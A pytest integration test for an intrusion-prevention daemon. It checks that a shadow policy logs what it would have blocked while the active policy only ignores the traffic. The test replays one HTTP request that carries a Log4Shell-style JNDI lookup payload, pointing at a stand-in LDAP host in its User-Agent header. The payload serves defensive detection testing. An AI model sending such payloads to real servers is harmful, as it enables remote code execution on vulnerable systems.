"""A shadow policy beside the active one, with the real engine: both verdicts are recorded, only the active acts."""

import asyncio
import select
import socket
from collections.abc import Callable, Iterable, Iterator
from contextlib import ExitStack, contextmanager
from datetime import UTC, datetime
from ipaddress import ip_network
from pathlib import Path

import pytest

from conversations import Conversation, write_capture
from hyperward.events.detect import Origin, event_of
from hyperward.events.model import Event, EventAction, Kind
from hyperward.events.store import EventStore
from hyperward.ips.engine.eve import decode_line
from hyperward.ips.engine.nudge import FrameNudge
from hyperward.ips.engine.settings import EngineSettings
from hyperward.ips.engine.supervisor import EngineSupervisor
from hyperward.policy.models import IntrusionPrevention
from hyperward.response.blocking import never_block
from hyperward.response.blocks import Blocks
from hyperward.response.inject import StubInjector
from hyperward.response.terminate import Terminator
from hyperward.steering.layout import ETHERTYPE_PROBE
from hyperward.steering.pairs import attach_pairs, ensure_pairs
from hyperward.steering.ports import KernelPorts
from hyperward.steering.program import Program
from hyperward.svm.apply import Applier
from hyperward.svm.check import check_files
from hyperward.svm.desired import desired_ports
from hyperward.svm.eventlog import EventLog
from hyperward.svm.exclusion_sets import ExclusionSets
from hyperward.svm.exclusion_tables import ExclusionTables
from hyperward.svm.first_start import StartedByFirstChange
from hyperward.svm.links import interfaces, segments
from hyperward.svm.probes import PROBE_MARK
from hyperward.svm.responder import Responder
from hyperward.svm.rulesets import RuleSets
from hyperward.svm.scanners.link import StubScanners
from hyperward.svm.state import State
from hyperward.svm.views import LedgerViews
from kernel import loaded_program, own_namespace
from protected import BUSY_MS, DOWN_MS, PROBE_MS, engine_references, wait_answered
from replay import Played, Player, data_path, read_capture
from suricata_runs import engine

pytestmark = [pytest.mark.root, pytest.mark.engine]

ETH_P_ALL, SOL_PACKET, PACKET_IGNORE_OUTGOING = 3, 263, 23
PROBE = ETHERTYPE_PROBE.to_bytes(2, "big")
INVENTORY = "vms: [{name: web, ports: [{interface: vm1}]}]"
POLICIES = """
policies:
- name: Lenient
  mode: %s
  assign: {names: [web]}
  intrusion_prevention: {enabled: true, network_attacks: {action: ignore}}
  shadow: Strict
- name: Strict
  state: inactive
  intrusion_prevention: {enabled: true}
"""
ATTACK = b"GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: ${jndi:ldap://198.51.100.7/a}\r\n\r\n"
RESPONSE = b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nok\n"


class AnyPolicies:
    """Would let any block be made for an hour."""

    def intrusion_prevention(self, vm_name: str) -> IntrusionPrevention | None:
        del vm_name
        return IntrusionPrevention(enabled=True)


class Svm:
    """What the daemon is made of, as far as a shadow meets it."""

    def __init__(self, folder: Path, program: Program) -> None:
        self.folder, self.program = folder, program
        pairs = ensure_pairs()
        attach_pairs(pairs, program)
        self.ports = KernelPorts(program)
        self.ports.configure(pairs, down_ms=DOWN_MS, busy_ms=BUSY_MS, probe_ms=PROBE_MS)
        self.settings = EngineSettings(binary=engine(), run_dir=folder / "run", log_dir=folder / "log")
        nudge = FrameNudge(("hwg0", "hwn0"), mark=PROBE_MARK)
        self.supervisor = EngineSupervisor(self.settings, engine_references(), nudge=nudge, notify=lambda _: None)
        self.state = State(folder / "state.json")
        self.applier = Applier(
            ports=self.ports,
            engine=StartedByFirstChange(self.supervisor),
            rule_sets=RuleSets(folder / "rules", (), engine()),
            state=self.state,
            exclusions=ExclusionSets(ExclusionTables(program.maps)),
            scanners=StubScanners(),
        )

    async def apply(self, mode: str) -> None:
        checked = check_files(POLICIES % mode, INVENTORY).require()
        wanted = desired_ports(checked.policies, checked.inventory, now=datetime.now(UTC))
        indexes = {name: segment.index for name, segment in segments().items()}
        outcome = await self.applier.apply(wanted, interfaces(), indexes)
        assert not outcome.failed
        assert await self.applier.apply_shadows() == {}
        self.ports.gate(is_open=True)
        wait_answered(self.ports)

    def respond(self, events: Iterable[Event]) -> tuple[list[Event], StubInjector]:
        """Let the daemon's responder act on events."""

        async def inside() -> list[Event]:
            with EventStore(self.folder / "events.db") as store:
                terminator = Terminator(self.program.maps.flows, injector)
                responder = Responder(
                    ports=self.applier.ports_by_id,
                    flows=self.program.maps.flows,
                    terminator=terminator,
                    blocks=Blocks(self.program.maps.blocked, self.folder / "blocks.json"),
                    wanted=AnyPolicies(),
                    log=EventLog(store, "svm"),
                )
                responder.learn(segments(), never_block(nobody=[ip_network("192.0.2.1/32")]))
                answers = [responder.respond(event) for event in events]
                terminator.close()
                return answers

        injector = StubInjector()
        return asyncio.run(inside()), injector

    def events(self) -> list[Event]:
        views = LedgerViews(
            self.state.ledger, self.applier.ports_by_vid, self.applier.versions_by_vid, self.applier.applied_by_id
        )
        lines = self.settings.eve_path.read_bytes().splitlines()
        found = (event_of(decode_line(line), views, Origin("svm", "1", n, line)) for n, line in enumerate(lines))
        return [event for event in found if event is not None]


@contextmanager
def back_from_engine() -> Iterator[Callable[[], None]]:
    """Yield what waits until the engine has seen a packet under both VLAN ids.

    Without it, two directions of a copy would race through the engine's two threads, faster than on any network.
    """
    with ExitStack() as stack:
        poller = select.poll()
        sockets = {}
        for interface in ("hwg0", "hwn0"):
            channel = stack.enter_context(socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL)))
            channel.setsockopt(SOL_PACKET, PACKET_IGNORE_OUTGOING, 1)
            channel.bind((interface, 0))
            poller.register(channel, select.POLLIN)
            sockets[channel.fileno()] = channel

        def wait() -> None:
            seen = 0
            while seen < 2:
                ready = poller.poll(5000)
                assert ready, "a packet did not come back from the engine"
                for descriptor, _ in ready:
                    seen += PROBE not in sockets[descriptor].recv(1 << 16)[12:20]

        yield wait


@pytest.mark.parametrize("mode", ["standard", "monitoring"])
def test_the_shadow_says_what_it_would_have_blocked_and_nothing_is_cut(mode: str, tmp_path: Path) -> None:
    engine()
    attack = Conversation(4, inbound=True, client_port=1001, port=80, request=ATTACK, response=RESPONSE)
    write_capture(tmp_path / "attack.pcap", [attack])
    frames = read_capture(tmp_path / "attack.pcap")
    with own_namespace(), loaded_program(tmp_path / "bpf") as program, data_path() as player:
        svm = Svm(tmp_path, program)
        played = asyncio.run(_played(svm, mode, player, frames))
        events = svm.events()
        answers, injector = svm.respond(events)
        [settings] = svm.ports.registered().values()
        counters = svm.ports.counters(settings.port_id)
        svm.ports.remove(interfaces()["vm1"])
        assert not list(program.maps.blocked.items())
    assert (played.lost, played.rewritten) == ([], [])
    assert answers == events
    assert (injector.vm, injector.network) == ([], [])
    assert {event.kind for event in events} == {Kind.DETECTION}
    [active], [shadow] = ([event for event in events if bool(event.shadow) is marked] for marked in (False, True))
    assert (active.asked, active.done, active.reason) == (EventAction.IGNORE, EventAction.IGNORE, "")
    assert (shadow.asked, shadow.done, shadow.reason) == (
        EventAction.TERMINATE_AND_BLOCK,
        EventAction.IGNORE,
        "shadow policy",
    )
    assert shadow.shadow == "Strict"
    assert (shadow.vm, shadow.port, shadow.source, shadow.direction) == (
        active.vm,
        active.port,
        active.source,
        active.direction,
    )
    assert shadow.rule is not None
    assert active.rule is not None
    assert shadow.rule.sid == active.rule.sid
    copied = counters.from_vm["shadow_copied"] + counters.to_vm["shadow_copied"]
    assert copied == len(frames)


async def _played(svm: Svm, mode: str, player: Player, frames: list[bytes]) -> Played:
    try:
        await svm.apply(mode)
        with back_from_engine() as wait:
            return player.play(frames, wait)
    finally:
        await svm.supervisor.stop()
